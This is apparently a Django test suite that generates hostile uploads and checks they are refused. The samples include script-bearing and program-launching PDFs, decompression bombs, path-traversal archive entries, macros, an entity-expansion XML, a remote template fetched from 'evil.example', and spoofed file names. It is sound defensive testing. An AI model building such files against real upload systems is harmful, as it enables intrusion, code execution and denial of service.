"""What comes from outside. Each hostile file is made here; none is stored."""

import io
import random
import struct
import zipfile
import zlib

import pikepdf
import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from PIL import Image

from directorate.documents.errors import FileRefused
from directorate.documents.files import clean_name, file_name, open_file, store_bytes, store_upload
from directorate.documents.models import StoredFile
from directorate.documents.serving import file_response

pytestmark = pytest.mark.django_db


# --- making files -------------------------------------------------------------------------------------------


def pdf(pages: int = 1, change=None, **options) -> bytes:
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page(page_size=(595, 842))
    if change:
        change(document)
    buffer = io.BytesIO()
    document.save(buffer, **options)
    return buffer.getvalue()


def image(kind: str, size=(40, 30)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "white").save(buffer, kind)
    return buffer.getvalue()


def archive(parts: dict[str, bytes | str], stored=("mimetype",), method=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as file:
        for name, content in parts.items():
            file.writestr(name, content, zipfile.ZIP_STORED if name in stored else method)
    return buffer.getvalue()


WORD = {
    "[Content_Types].xml": "<Types/>",
    "_rels/.rels": "<Relationships/>",
    "word/document.xml": "<w:document xmlns:w='urn:w'><w:body/></w:document>",
}
EXCEL = {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}
ODT = {
    "mimetype": "application/vnd.oasis.opendocument.text",
    "content.xml": "<o:document-content xmlns:o='urn:o'/>",
    "META-INF/manifest.xml": "<manifest/>",
}
ODS = ODT | {"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}


def png_claiming(width: int, height: int) -> bytes:
    """A picture of a few bytes that announces billions of pixels."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def with_javascript(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def with_hidden_javascript(document: pikepdf.Pdf) -> None:
    action = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS=pikepdf.String("x()")))
    names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), action])))
    document.Root.Names = names


def with_launch(document: pikepdf.Pdf) -> None:
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 9, 9]),
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")),
    )  # fmt: skip
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(link)])


def with_form_program(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"))


def with_web_link(document: pikepdf.Pdf) -> None:
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 9, 9]),
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://exemple.example/S/Launch")),
    )  # fmt: skip
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(link)])


def swelling_pdf(megabytes: int) -> bytes:
    """A thousandth of its size once packed: its three objects are followed by spaces without end."""
    numbers = b"1 0 2 60 3 150 "
    objects = b"<</Type/Catalog/Pages 2 0 R>>".ljust(60) + b"<</Type/Pages/Kids[3 0 R]/Count 1>>".ljust(90)
    objects += b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    packer = zlib.compressobj(1)
    packed = packer.compress(numbers + objects)
    packed += b"".join(packer.compress(b" " * 1_000_000) for _ in range(megabytes)) + packer.flush()
    body = b"%PDF-1.5\n"
    start = len(body)
    body += b"5 0 obj\n<</Type/ObjStm/N 3/First %d/Filter/FlateDecode/Length %d>>stream\n" % (len(numbers), len(packed))
    body += packed + b"\nendstream\nendobj\n"
    table = len(body)
    rows = [(0, 0, 65535), (2, 5, 0), (2, 5, 1), (2, 5, 2), (0, 0, 0), (1, start, 0), (1, table, 0)]
    entries = b"".join(struct.pack(">BIH", *row) for row in rows)
    body += b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(entries)
    return body + entries + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table


ENCRYPTION = pikepdf.Encryption(owner="o", user="u")
OWNER_ONLY = pikepdf.Encryption(owner="o", user="")


def announcing(size: int, real: int) -> bytes:
    """An archive whose directory announces `size` bytes for a part that holds `real`."""
    content = bytearray(archive(WORD | {"word/media/a.txt": b"0" * real}))
    for found in (content.find(b"word/media/a.txt") - 30, content.rfind(b"word/media/a.txt") - 46):
        offset = 22 if content[found : found + 4] == b"PK\x03\x04" else 24
        content[found + offset : found + offset + 4] = struct.pack("<I", size)
    return bytes(content)


def encrypted_zip() -> bytes:
    content = bytearray(archive(WORD))
    content[content.find(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def twice_the_same_part() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file, pytest.warns(UserWarning):
        for name, content in (*WORD.items(), ("word/document.xml", "<other/>")):
            file.writestr(name, content)
    return buffer.getvalue()


ENTITIES = '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><w:document xmlns:w="urn:w">&b;</w:document>'
REMOTE = (
    '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"'
    ' TargetMode="External"/></Relationships>'
)
EICAR_HTML = b"<html><script>alert(1)</script></html>"

HOSTILE = {
    "an empty file": ("vide.pdf", lambda: b""),
    "a PDF without page": ("a.pdf", lambda: pdf(0)),
    "a PDF of five bytes": ("a.pdf", lambda: b"%PDF-"),
    "an HTML page dressed as a PDF": ("a.pdf", lambda: b"%PDF-1.4\n" + EICAR_HTML + b"\n%%EOF"),
    "a PDF cut in the middle": ("a.pdf", lambda: pdf(3)[:400]),
    "junk before the PDF": ("a.pdf", lambda: EICAR_HTML + pdf()),
    "junk after the PDF": ("a.pdf", lambda: pdf() + EICAR_HTML),
    "a PDF followed by an archive": ("a.pdf", lambda: pdf() + archive(WORD)),
    "an archive inside the comments of a PDF": ("a.pdf", lambda: pdf() + archive(WORD) + b"\n%%EOF"),
    "a PDF with a password": ("a.pdf", lambda: pdf(encryption=ENCRYPTION)),
    "a PDF with an owner's password": ("a.pdf", lambda: pdf(encryption=OWNER_ONLY)),
    "a PDF with a script": ("a.pdf", lambda: pdf(change=with_javascript)),
    "a PDF with a script in compressed objects": (
        "a.pdf",
        lambda: pdf(change=with_hidden_javascript, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    ),
    "a script whose name is written otherwise": (
        "a.pdf",
        lambda: pdf(change=with_javascript).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/#4AS "),
    ),
    "a PDF that launches a program": ("a.pdf", lambda: pdf(change=with_launch)),
    "a PDF with a programmed form": ("a.pdf", lambda: pdf(change=with_form_program)),
    "a PDF that swells a thousand times": ("a.pdf", lambda: swelling_pdf(600)),
    "a program called PDF": ("a.pdf", lambda: b"MZ" + bytes(100)),
    "an image called PDF": ("a.pdf", lambda: image("PNG")),
    "a PDF called image": ("a.png", lambda: pdf()),
    "a JPEG called PNG": ("a.png", lambda: image("JPEG")),
    "a script dressed as an image": ("a.png", lambda: b"\x89PNG\r\n\x1a\n" + EICAR_HTML),
    "a GIF with a script": ("a.gif", lambda: b"GIF89a/*" + EICAR_HTML),
    "a drawing with a script": ("a.svg", lambda: b"<svg><script>alert(1)</script></svg>"),
    "an image cut in the middle": ("a.jpg", lambda: noisy_jpeg()[:2000]),
    "an image that is also an archive": ("a.jpg", lambda: image("JPEG") + archive(WORD)),
    "an image of 900 million pixels": ("a.png", lambda: png_claiming(30_000, 30_000)),
    "an image of 3600 million pixels": ("a.png", lambda: png_claiming(60_000, 60_000)),
    "an archive called Word": ("a.docx", lambda: archive({"a.txt": "x"})),
    "a Word document called Excel": ("a.xlsx", lambda: archive(WORD)),
    "a Word document called ODT": ("a.odt", lambda: archive(WORD)),
    "a spreadsheet called ODT": ("a.odt", lambda: archive(ODS)),
    "a Word document cut in the middle": ("a.docx", lambda: archive(WORD)[:-40]),
    "a Word document that is not XML": ("a.docx", lambda: archive(WORD | {"word/document.xml": "<w:document"})),
    "another root than a document": ("a.docx", lambda: archive(WORD | {"word/document.xml": "<html/>"})),
    "XML entities that multiply": ("a.docx", lambda: archive(WORD | {"word/document.xml": ENTITIES})),
    "a part that swells 1000 times": ("a.docx", lambda: archive(WORD | {"word/a.xml": b"0" * 60_000_000})),
    "parts of 400 MB": ("a.docx", lambda: announcing(400_000_000, 1_000)),
    "an archive that lies about its sizes": ("a.docx", lambda: announcing(10, 30_000_000)),
    "ten thousand parts": ("a.xlsx", lambda: archive(EXCEL | {f"xl/{number}": b"" for number in range(10_000)})),
    "the same part twice": ("a.docx", twice_the_same_part),
    "a part that climbs out": ("a.docx", lambda: archive(WORD | {"../../etc/cron.d/x": "x"})),
    "a part with an absolute name": ("a.docx", lambda: archive(WORD | {"/etc/passwd": "x"})),
    "macros": ("a.docx", lambda: archive(WORD | {"word/vbaProject.bin": b"x"})),
    "macros of an open document": ("a.odt", lambda: archive(ODT | {"Basic/Standard/Module1.xml": "<x/>"})),
    "a program inside": ("a.docx", lambda: archive(WORD | {"word/embeddings/a.exe": b"MZ"})),
    "a template fetched from outside": (
        "a.docx",
        lambda: archive(WORD | {"word/_rels/settings.xml.rels": REMOTE}),
    ),
    "a Word document with a password": ("a.docx", encrypted_zip),
    "an open document with a password": (
        "a.odt",
        lambda: archive(ODT | {"META-INF/manifest.xml": "<manifest><encryption-data/></manifest>"}),
    ),
    "macros by their extension": ("a.docm", lambda: archive(WORD)),
    "an old Word document": ("a.doc", lambda: b"\xd0\xcf\x11\xe0" + bytes(600)),
    "a page called text": ("a.txt", lambda: b"  <!DOCTYPE html>" + EICAR_HTML),
    "a program called text": ("a.txt", lambda: b"MZ\x90"),
    "bytes called text": ("a.txt", lambda: bytes(range(256))),
    "an archive called CSV": ("a.csv", lambda: archive(WORD)),
    "a nul in a CSV": ("a.csv", lambda: b"a;b\n1;\x002\n"),
    "a file without extension": ("facture", lambda: pdf()),
    "a program behind a turned name": ("facture\u202efdp.exe", lambda: pdf()),
    "a program with two extensions": ("facture.pdf.exe", lambda: pdf()),
}


def noisy_jpeg() -> bytes:
    buffer = io.BytesIO()
    noise = random.Random(3).randbytes(200 * 200 * 3)
    Image.frombytes("RGB", (200, 200), noise).save(buffer, "JPEG")
    return buffer.getvalue()


SOUND = {
    "a PDF": ("plan.pdf", lambda: pdf(2)),
    "a PDF of object streams": ("plan.PDF", lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    "a PDF of compressed objects": ("plan.pdf", lambda: swelling_pdf(1)),
    "a PDF with a link": ("plan.pdf", lambda: pdf(change=with_web_link)),
    "a JPEG": ("photo.JPG", lambda: noisy_jpeg()),
    "a PNG": ("photo.png", lambda: image("PNG")),
    "a TIFF": ("scan.tiff", lambda: image("TIFF")),
    "a Word document": ("lettre.docx", lambda: archive(WORD)),
    "an Excel workbook": ("liste.xlsx", lambda: archive(EXCEL)),
    "an open text": ("lettre.odt", lambda: archive(ODT)),
    "an open spreadsheet": ("liste.ods", lambda: archive(ODS)),
    "a text in UTF-8": ("note.txt", lambda: "Éléments d'appréciation\r\n".encode()),
    "a CSV of Windows": ("liste.csv", lambda: "nom;ville\nÉloïse;Créteil\n".encode("cp1252")),
}


def receive(name: str, content: bytes, at, by=None):
    upload = SimpleUploadedFile("x", content)
    upload._name = name  # what a browser sends; Django cuts folders off, an API may not
    return store_upload(upload, by=by, at=at)


# --- taking in ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "content"), HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_file_is_refused_beside_its_field(name, content, at):
    with pytest.raises(FileRefused) as refusal:
        receive(name, content(), at)
    assert refusal.value.field == "document"
    assert str(refusal.value).endswith(".")
    assert not StoredFile.objects.exists()


@pytest.mark.parametrize(("name", "content"), SOUND.values(), ids=SOUND.keys())
def test_a_sound_file_is_kept_as_it_came(name, content, at):
    expected = content()
    stored = receive(name, expected, at)
    assert stored.name == name
    assert stored.size == len(expected)
    with open_file(stored) as kept:
        assert kept.read() == expected


class HugeUpload(UploadedFile):
    """Announces sixty megabytes and holds none: reading it would fail."""

    def __init__(self, name: str, announced: int):
        super().__init__(io.BytesIO(), name, "application/pdf", announced)

    def read(self, *args):
        raise AssertionError("a file that is too big is refused unread")


def test_sixty_megabytes_are_refused_unread_with_both_figures(at):
    with pytest.raises(FileRefused, match="60 Mo : la limite est de 50 Mo"):
        store_upload(HugeUpload("plan.pdf", 60_000_000), by=None, at=at)


def test_a_file_that_lies_about_its_size_is_stopped_at_the_limit(at, settings):
    settings.MAX_UPLOAD_BYTES = 100_000
    upload = UploadedFile(io.BytesIO(b"%PDF-" + bytes(200_000)), "plan.pdf", "application/pdf", 10)
    with pytest.raises(FileRefused, match="limite de 0,1 Mo"):
        store_upload(upload, by=None, at=at)


def test_the_same_bytes_are_kept_once_under_two_names(at):
    content = pdf()
    first, second = receive("a.pdf", content, at), receive("b.pdf", content, at)
    assert (first.path, first.sha256) == (second.path, second.sha256)
    assert first.path.endswith(first.sha256)
    assert {first.name, second.name} == {"a.pdf", "b.pdf"}


def test_a_copy_cut_short_is_never_taken_again(at):
    content = pdf()
    first = receive("a.pdf", content, at)
    with default_storage.open(first.path, "wb") as file:
        file.write(content[:50])
    second = receive("a.pdf", content, at)
    with open_file(second) as kept:
        assert kept.read() == content


# --- names --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\x\\plan.pdf", "plan.pdf"),
        ("facture\u202efdp.pdf", "facturefdp.pdf"),
        ("a\u200b\u2066b\x00\r\nc.pdf", "ab c.pdf"),
        ('a"b;c<d>.pdf', "a_b;c_d_.pdf"),
        ("con.pdf", "_con.pdf"),
        ("  .plan.pdf. ", "plan.pdf"),
        ("e\u0301te\u0301.pdf", "été.pdf"),
        ("🙂.pdf", "🙂.pdf"),
        ("", "document"),
        ("\ud800.pdf", "_.pdf"),
    ],
)
def test_a_name_keeps_what_a_person_reads_and_nothing_else(sent, kept):
    assert clean_name(sent) == kept


def test_a_long_name_is_cut_and_keeps_its_extension():
    assert clean_name("é" * 400 + ".pdf") == "é" * 196 + ".pdf"


def test_a_document_of_the_house_is_named_after_its_title():
    assert file_name("Arrêté n° 2026/12 : demande", "pdf") == "Arrêté n° 2026-12 _ demande.pdf"


# --- handing over -------------------------------------------------------------------------------------------


def test_a_file_is_handed_over_as_a_download_that_nothing_runs(at):
    response = file_response(receive('pièce "1".pdf', pdf(), at))
    assert response["Content-Disposition"].startswith("attachment; filename*=utf-8''pi%C3%A8ce")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert "no-store" in response["Cache-Control"]


def test_only_a_pdf_may_be_shown_in_the_page(at):
    shown = file_response(store_bytes(pdf(), "acte.pdf", "application/pdf", by=None, at=at), inline=True)
    text = file_response(receive("note.txt", b"bonjour", at), inline=True)
    assert shown["Content-Disposition"].startswith("inline")
    assert text["Content-Disposition"].startswith("attachment")
